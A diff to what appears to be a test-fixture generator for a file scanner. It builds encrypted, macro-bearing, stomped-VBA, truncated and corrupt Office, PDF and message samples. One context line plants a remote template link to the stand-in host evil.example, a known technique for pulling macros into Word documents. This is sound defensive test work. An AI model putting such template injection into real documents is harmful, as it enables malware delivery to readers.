@@ -43,6 +43,8 @@ run("/usr/bin/python3", os.path.join(here, "office.py"), out, tmp, flat)
 for n in os.listdir(out):
     if n in ("dde-calc.xlsx", "section-link.doc", "section-link.docx", "linked-image.rtf"):
         os.remove(os.path.join(out, n))  # LibreOffice leaves out what matters
+    elif n in ("export-user.pdf", "export-owner.pdf", "export-hybrid.pdf", "password-draw.odg", "plain-draw.odg", "basic-calc.xlsm"):
+        put(n, None, *({"export-user.pdf": [ENC], "password-draw.odg": [ENC], "basic-calc.xlsm": [MACRO]}.get(n, [])))
     elif n.startswith("password-"):
         put(n, None, *([] if n.endswith(".ppt") else [ENC]))
     elif n.startswith("basic-") and n not in ("basic-empty.odt", "basic-writer.docx"):
@@ -128,7 +130,8 @@ put("vba-renamed-file.docx", get("vba.docm"), MACRO)
 put("vba-renamed-part.docm", with_vba("plain-writer.docx", DOC_RELS, "word/theme/settings7.dat", code), MACRO)
 put("vba-empty.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", empty))
 put("vba-stomped.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", stomped), MACRO)
-put("vba-broken.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", code[:700]), BAD)
+put("vba-broken.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", code[:700]), MACRO)
+put("vba-stub.docm", edit("plain-writer.docx", {"word/vbaProject.bin": b"not a project"}), MACRO)
 
 settings = lambda b: b
 put("template-http.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "https://evil.example/t.dotm", True, "rId1")}), TRACK)
@@ -253,6 +256,8 @@ d = get("plain-writer.docx")
 put("cut-off.docx", d[:len(d) * 2 // 3], BAD)
 i = d.find(b"word/document.xml") + 30
 put("broken-data.docx", d[:i + 60] + bytes(400) + d[i + 460:], BAD)
+
+ARMOR = "-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(b"\xc3\x0d\x04\x09\x03\x08" + bytes(range(8)) + b"\xe0\xd2" + bytes([60, 1]) + bytes(59)).decode() + "-----END PGP MESSAGE-----\n"
 
 # --- binary Office ---------------------------------------------------------------------------
 def ole(name, change):
@@ -403,6 +408,9 @@ put("irm.docx", cfb.write({"EncryptedPackage": struct.pack("<Q", 100) + os.urand
 put("irm.doc", cfb.write({"\x09DRMContent": os.urandom(5000), "WordDocument": cfb.read(get("plain-writer.doc"))["WordDocument"], "1Table": b"", "0Table": b""}), ENC)
 put("extensible.xlsx", cfb.write({"EncryptedPackage": struct.pack("<Q", 100) + os.urandom(112), "EncryptionInfo": struct.pack("<HHI", 3, 3, 0x10) + b"<EncryptionData/>"}), ENC)
 put("cut-off.doc", get("plain-writer.doc")[:1500], BAD)
+w = get("plain-writer.doc")
+put("half.doc", w[:len(w) // 2], BAD)
+put("text-encrypted.msg", cfb.write({"__properties_version1.0": bytes(32), "__substg1.0_1000001F": ("Hello\r\n" + ARMOR).encode("utf-16-le")}), MSG)
 
 # --- OpenDocument -----------------------------------------------------------------------------
 put("script.ods", edit("plain-calc.ods", {"Scripts/python/run.py": b"def run(*a):\n    pass\n"}), MACRO)
@@ -445,6 +453,9 @@ put("wrong-xref.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n12345", p))
 u = get("aes-256-user.pdf")
 put("broken-xref-user.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n1", u), ENC)
 put("no-end.pdf", p[:-30])
+put("half.pdf", p[:len(p) // 2], BAD)
+o = get("objstm.pdf")
+put("half-objstm.pdf", o[:len(o) // 2], BAD)
 put("head-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", BAD)
 
 
